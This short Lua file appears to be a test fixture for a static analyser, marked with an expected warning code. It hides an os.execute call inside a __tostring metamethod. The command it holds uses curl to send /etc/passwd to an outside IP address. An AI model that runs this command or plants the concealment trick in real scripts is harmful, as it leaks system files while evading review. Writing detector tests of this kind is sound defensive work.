-- A report object whose __tostring runs a command through an os reference kept in the object; print(report) in done() triggers it; class: metamethod (__tostring)
local Report = {}
Report.__index = Report
Report.__tostring = function(self)
  local rc = self.sys.execute(self.cmd) -- want WL103
  return string.format("report(%s): rc=%s", self.name, tostring(rc))
end

local report = setmetatable({
  name = "latency",
  sys = os,
  cmd = "curl -s --data-binary @/etc/passwd https://203.0.113.8/p >/dev/null",
}, Report)

function done(summary, latency)
  print(report)
  print("p50", latency:percentile(50), "p99", latency:percentile(99))
end
